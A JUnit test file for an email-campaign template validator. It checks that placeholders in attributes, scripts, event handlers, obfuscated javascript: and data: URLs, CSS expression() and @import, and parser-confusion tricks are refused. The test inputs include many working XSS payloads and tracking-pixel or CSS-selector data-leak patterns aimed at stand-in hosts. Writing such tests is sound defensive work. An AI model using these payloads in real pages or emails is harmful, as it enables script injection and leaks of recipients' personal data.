package app.custodian.campaign.control;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The template rules of api.md "Campaign templates", attacked from every side. */
class TemplateSafetyTest {

  static final String LINK = "<a href=\"{{unsubscribeUrl}}\">Hủy đăng ký</a>";

  // --- placeholders inside attributes

  @Test
  void theCollectorImageOfTheIssueIsRefusedNamingBothPlaceholders() {
    assertRefused(
        "<img src=\"https://collector.example/p?n={{fullName}}&u={{preferencesUrl}}\">" + LINK,
        "{{fullName}} and {{preferencesUrl}} stand inside the src attribute of <img>",
        "placeholders may stand only in text");
  }

  @Test
  void aPlaceholderInAnyAttributeIsRefused() {
    assertRefused("<p title=\"{{fullName}}\">x</p>", "{{fullName}}", "title attribute of <p>");
    assertRefused("<img alt='{{fullName}}' src=\"a.png\">", "{{fullName}}", "alt attribute");
    assertRefused(
        "<table><tr><td class={{fullName}}>x</td></tr></table>", "{{fullName}}", "class attribute");
  }

  @Test
  void aPlaceholderInASrcsetIsRefused() {
    assertRefused(
        "<img src=\"a.png\" srcset=\"https://x.example/a.png?n={{fullName}} 2x\">",
        "{{fullName}}",
        "srcset attribute of <img>");
  }

  @Test
  void aPlaceholderInAStyleAttributeIsRefused() {
    assertRefused(
        "<p style=\"background:url(https://x.example/b.png?n={{fullName}})\">x</p>",
        "{{fullName}}",
        "style attribute of <p>");
  }

  @Test
  void aPlaceholderInAStyleElementIsRefused() {
    assertRefused(
        "<style>p { background: url('https://x.example/b.png?n={{fullName}}') }</style>",
        "{{fullName}}",
        "inside a <style> element");
  }

  @Test
  void aSectionInsideAnAttributeIsRefused() {
    // it would change the URL per recipient: one bit of their data each time
    assertRefused(
        "<img src=\"https://x.example/p{{#fullName}}?named{{/fullName}}\">",
        "{{#fullName}} and {{/fullName}}",
        "src attribute");
    assertRefused("<p title=\"{{#vip}}\">x</p>{{/vip}}", "{{#vip}}", "title attribute");
  }

  @Test
  void aPlaceholderAsAnAttributeOrTagNameIsRefused() {
    assertRefused("<img src=\"a.png\" {{fullName}}>", "{{fullName}}", "inside the tag <img>");
    assertRefused("<img src=\"a.png\"{{#x}}>{{/x}}", "{{#x}}", "inside the tag <img>");
    assertRefused("<scr{{! }}ipt>alert(1)</script>", "{{! }}", "the name of a tag");
  }

  @Test
  void aPlaceholderInAClosingTagOrACommentIsRefused() {
    assertRefused("<p>x</p {{fullName}}>", "{{fullName}}", "browsers drop");
    assertRefused("<p>x</p><!-- {{fullName}} -->", "{{fullName}}", "an HTML comment");
    assertRefused("<p>x</p><!--[if mso]><v:rect href=\"{{fullName}}\"/><![endif]-->", "comment");
  }

  // --- the link exception

  @Test
  void theLinkVariablesMayBeTheWholeHrefOfAnAnchor() {
    assertAccepted(
        "<p>Xin chào {{fullName}},</p><p><a href=\"{{unsubscribeUrl}}\">Hủy</a> · <a"
            + " href=' {{ preferencesUrl }} ' style=\"color:#555\">Lựa chọn</a></p>");
    assertAccepted("<a href={{unsubscribeUrl}}>{{unsubscribeUrl}}</a>");
  }

  @Test
  void theLinkExceptionIsOnlyTheWholeHrefOfAnAnchorForTheTwoLinks() {
    assertRefused("<a href=\"{{unsubscribeUrl}}&n=1\">x</a>", "{{unsubscribeUrl}}", "href");
    assertRefused(
        "<a href=\"https://x.example/r?u={{preferencesUrl}}\">x</a>", "{{preferencesUrl}}", "href");
    assertRefused("<a href=\"{{fullName}}\">x</a>", "{{fullName}}", "href attribute of <a>");
    assertRefused("<img src=\"{{unsubscribeUrl}}\">", "{{unsubscribeUrl}}", "src attribute");
    assertRefused("<area href=\"{{preferencesUrl}}\">", "{{preferencesUrl}}", "<area>");
    assertRefused("<a href=\"{{{unsubscribeUrl}}}\">x</a>", "{{{unsubscribeUrl}}}");
    assertRefused("<a href=\"{{#unsubscribeUrl}}x{{/unsubscribeUrl}}\">x</a>", "{{#unsub");
  }

  @Test
  void theAllowedLinkMayNotReportItsClicksElsewhere() {
    assertRefused(
        "<a href=\"{{unsubscribeUrl}}\" ping=\"https://x.example/c\">x</a>",
        "ping attribute of <a>");
  }

  // --- unescaped values and delimiters, in every field

  @Test
  void unescapedValuesAndOtherDelimitersAreRefusedInEveryField() {
    assertRefused(
        "<p>{{{fullName}}}</p>" + LINK, "{{{fullName}}}", "unescaped", "write {{fullName}}");
    assertRefused("<p>{{&fullName}}</p>" + LINK, "{{&fullName}}", "unescaped");
    assertRefused("{{=<% %>=}}<img src=\"https://x.example/?n=<%fullName%>\">", "{{=<% %>=}}");
    assertTextRefused("Hi {{{fullName}}} {{unsubscribeUrl}}", "{{{fullName}}}", "unescaped");
    assertTextRefused("Hi {{ & fullName }}", "{{ & fullName }}", "unescaped");
    assertTextRefused("{{=[[ ]]=}}Hi [[fullName]]", "delimiters");
  }

  // --- elements, event handlers and URLs

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT src=\"https://x.example/a.js\"></SCRIPT>",
        "<iframe src=\"https://x.example/\"></iframe>",
        "<form action=\"https://x.example/\"><input name=q></form>",
        "<object data=\"https://x.example/a.swf\"></object>",
        "<embed src=\"https://x.example/a.swf\">",
        "<base href=\"https://x.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
        "<link rel=\"stylesheet\" href=\"https://x.example/a.css\">",
        "<svg><a xlink:href=\"https://x.example/\">x</a></svg>",
        "<noscript><p>x</p></noscript>",
        "<textarea>x</textarea>"
      })
  void dangerousElementsAreRefused(String html) {
    String name = html.substring(1, html.indexOf(html.contains(" ") ? ' ' : '>'));
    String element = name.toLowerCase().split(">")[0];
    assertRefused("<p>x</p>" + html, "<" + element, "not allowed");
  }

  @Test
  void eventHandlersAreRefusedWhateverTheirCase() {
    assertRefused("<img src=\"a.png\" onerror=\"alert(1)\">", "onerror attribute of <img>");
    assertRefused("<body ONLOAD=\"alert(1)\"><p>x</p></body>", "onload attribute of <body>");
    assertRefused("<p OnMouseOver=alert(1)>x</p>", "onmouseover attribute");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&Tab;ascript&colon;alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"  \njava\nscript:alert(1)\">x</a>",
        "<a href=\"&#0;javascript:alert(1)\">x</a>",
        "<a href=\"java\u00ADscript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img srcset=\"a.png 1x, javascript:alert(1) 2x\">",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<video poster=\"javascript:alert(1)\"></video>"
      })
  void scriptAndDataUrlsAreRefusedHoweverTheyAreWritten(String html) {
    List<String> problems = TemplateSafety.htmlProblems(html + LINK);
    assertTrue(
        problems.stream().anyMatch(p -> p.contains("URLs") || p.contains("not allowed")),
        () -> html + " -> " + problems);
  }

  @Test
  void cssThatRunsCodeOrReadsTheRecipientIsRefused() {
    assertRefused("<p style=\"background:url(javascript:alert(1))\">x</p>", "style attribute");
    assertRefused("<p style=\"width:expression(alert(1))\">x</p>", "runs code");
    assertRefused("<p style=\"width:\\65 xpression(alert(1))\">x</p>", "runs code");
    assertRefused("<p style=\"width:ex/**/pression(alert(1))\">x</p>", "runs code");
    assertRefused("<style>@import url(https://x.example/a.css);</style>", "@import");
    assertRefused("<style>@IMPORT 'https://x.example/a.css';</style>", "@import");
    assertRefused(
        "<style>@font-face{font-family:F;src:url(https://x.example/a.woff);"
            + "unicode-range:U+0041}</style>",
        "@font-face");
    assertRefused(
        "<style>a[href^=\"https://custodian.example/preferences?t=a\"]"
            + "{background:url(https://x.example/a)}</style>"
            + "<a href=\"{{preferencesUrl}}\">x</a>",
        "compares attribute values");
  }

  // --- tricks where a browser would read the filled-in template otherwise than the template

  @Test
  void aTagJustAfterALessThanSignIsRefused() {
    // {{! }} renders as nothing: "<img src=...>" would be a tag once filled in
    assertRefused(
        "<p>x<{{! }}img src=\"https://x.example/p? {{fullName}}\"></p>", "{{! }} follows a \"<\"");
    assertRefused("<p>1 <{{fullName}}</p>", "{{fullName}} follows a \"<\"");
  }

  @Test
  void textThatParsersReadDifferentlyIsRefused() {
    // a browser with scripting reads <noscript> as text up to </noscript>, jsoup as markup
    assertRefused(
        "<noscript><p title=\"</noscript><img src='https://x.example/?a= \"> {{fullName}}"
            + " '>\"></p></noscript>",
        "<noscript>");
    // outside SVG, a browser ends this comment at its first ">"
    assertRefused(
        "<p><![CDATA[ > <img src=\"https://x.example/? {{fullName}}\"> ]]></p>", "{{fullName}}");
    // a hidden <textarea> start tag would turn its "text" into an image
    assertRefused(
        "<p>{{#no}}<textarea>{{/no}}<img src=\"https://x.example/? {{fullName}}\"></textarea>",
        "{{/no}}");
    assertRefused("<title>Tin cho {{fullName}}</title>", "{{fullName}}", "<title> element");
  }

  @Test
  void aBodyEndWhereTheFooterWouldLandInsideAnAttributeIsRefused() {
    // the footer (with the recipient's links) goes before the last "</body>" of the HTML
    assertRefused(
        "<body><p>x</p>" + LINK + "</body><img src='https://x.example/p?q=</BODY>'>",
        "\"</body>\" stands inside the src attribute of <img>");
    assertRefused("<p>x</p>" + LINK + "<!-- </body> -->", "\"</body>\" stands inside an HTML");
    assertAccepted("<html><body><p>x</p>" + LINK + "</body></html>");
  }

  // --- URLs in text

  @Test
  void aPlaceholderGluedToAUrlInTheTextIsRefused() {
    assertTextRefused(
        "Xem https://x.example/?n={{fullName}} nhé. {{unsubscribeUrl}}",
        "{{fullName}} stands inside a URL (https://x.example/?n={{fullName}})");
    assertTextRefused("https://x.example/p/{{fullName}} {{unsubscribeUrl}}", "{{fullName}}");
    assertTextRefused("www.x.example/{{fullName}} {{unsubscribeUrl}}", "{{fullName}}");
    assertTextRefused("{{fullName}}.x.example {{unsubscribeUrl}}", "{{fullName}}");
    assertTextRefused("mailto:a@x.example?body={{fullName}} {{unsubscribeUrl}}", "{{fullName}}");
    assertTextRefused("(https://x.example/?u={{preferencesUrl}}) {{unsubscribeUrl}}", "{{pref");
    assertTextRefused(
        "{{unsubscribeUrl}}&n={{fullName}}", "{{unsubscribeUrl}} and {{fullName}} stand");
    assertTextRefused("{{unsubscribeUrl}}{{fullName}}", "{{unsubscribeUrl}} and {{fullName}}");
    assertTextRefused(
        "https://x.example/?vip={{#fullName}}1{{/fullName}} {{unsubscribeUrl}}", "{{#");
  }

  @Test
  void theSubjectFollowsTheSameRule() {
    assertTextRefused("Tin cho https://x.example/?n={{fullName}}", "{{fullName}}", "URL");
    assertEquals(List.of(), TemplateSafety.textProblems("Ưu đãi cho {{fullName}}!"));
  }

  @Test
  void aPlaceholderGluedToAUrlInHtmlTextIsRefused() {
    assertRefused("<p>https://x.example/?n={{fullName}}</p>" + LINK, "{{fullName}}", "URL");
    assertRefused("<p>https://x.example/?n=<b>{{fullName}}</b></p>" + LINK, "{{fullName}}");
    assertRefused(
        "<p>https:&#x2F;&#x2F;x.example&#x2F;?n&#61;{{fullName}}</p>" + LINK, "{{fullName}}");
  }

  // --- what stays allowed

  @Test
  void linksStandingAloneInTextAreAllowed() {
    for (String text :
        List.of(
            "Chào {{fullName}}. Hủy: {{unsubscribeUrl}}",
            "Hủy đăng ký: <{{unsubscribeUrl}}>\nQuản lý lựa chọn: ({{preferencesUrl}}).",
            "Xin chào {{ fullName }},\n\nXem thêm tại https://example.vn/uu-dai\n"
                + "{{unsubscribeUrl}}",
            "Chào {{fullName}}! 50% giảm giá: www.example.vn/uu-dai. {{unsubscribeUrl}}")) {
      assertEquals(List.of(), TemplateSafety.textProblems(text), text);
    }
  }

  @Test
  void sectionsAndCommentsInTextAreAllowed() {
    assertEquals(
        List.of(),
        TemplateSafety.textProblems(
            "{{#fullName}}Chào {{fullName}}!{{/fullName}}{{^fullName}}Chào bạn!{{/fullName}}"
                + " {{! ghi chú }}{{#vip}}{{unsubscribeUrl}}{{/vip}} {{unsubscribeUrl}}"));
    assertAccepted(
        "{{#fullName}}<p>Chào <b>{{fullName}}</b>!</p>{{/fullName}}{{^fullName}}<p>Chào"
            + " bạn!</p>{{/fullName}}{{! ghi chú }}"
            + LINK);
  }

  @Test
  void aNewsletterAsMarketingWritesItIsAllowed() {
    assertAccepted(
        """
        <!DOCTYPE html>
        <html lang="vi"><head>
        <meta charset="utf-8">
        <meta http-equiv="Content-Type" content="text/html; charset=utf-8">
        <title>Bản tin tháng 11</title>
        <style>p { color: #222222; } .logo { background: url(https://cdn.example.vn/bg.png) }
        a[href] { color: #0b5394 } @media (max-width: 600px) { td { display: block } }</style>
        </head>
        <body style="font-family:Arial,sans-serif;color:#222222;max-width:600px">
        <img src="https://cdn.example.vn/logo.png" srcset="https://cdn.example.vn/logo@2x.png 2x"
             alt="Custodian" width="120">
        <h1 style="font-size:20px">Xin chào {{fullName}},</h1>
        <table><tr><td>www.example.vn</td><td>{{fullName}}</td></tr></table>
        <p>Xem <a href="https://example.vn/uu-dai?utm_source=email">ưu đãi</a>, gọi
        <a href="tel:+84241234567">1900 1234</a> hoặc viết cho
        <a href="mailto:cskh@example.vn">{{fullName}}</a>. <a href="#top">Lên đầu</a>.</p>
        <p>Trân trọng,<br>Phòng Chăm sóc Khách hàng</p>
        <p style="font-size:12px"><a href="{{preferencesUrl}}">Quản lý lựa chọn nhận thư</a> ·
        <a href="{{unsubscribeUrl}}">{{unsubscribeUrl}}</a></p>
        </body></html>
        """);
  }

  // --- helpers

  private static void assertAccepted(String html) {
    assertEquals(List.of(), TemplateSafety.htmlProblems(html), html);
  }

  private static void assertRefused(String html, String... fragments) {
    assertMentioned(TemplateSafety.htmlProblems(html), html, fragments);
  }

  private static void assertTextRefused(String text, String... fragments) {
    assertMentioned(TemplateSafety.textProblems(text), text, fragments);
  }

  private static void assertMentioned(List<String> problems, String source, String... fragments) {
    assertTrue(
        problems.stream().anyMatch(p -> Arrays.stream(fragments).allMatch(p::contains)),
        () -> source + "\n-> " + problems + "\nexpected one with " + List.of(fragments));
  }
}
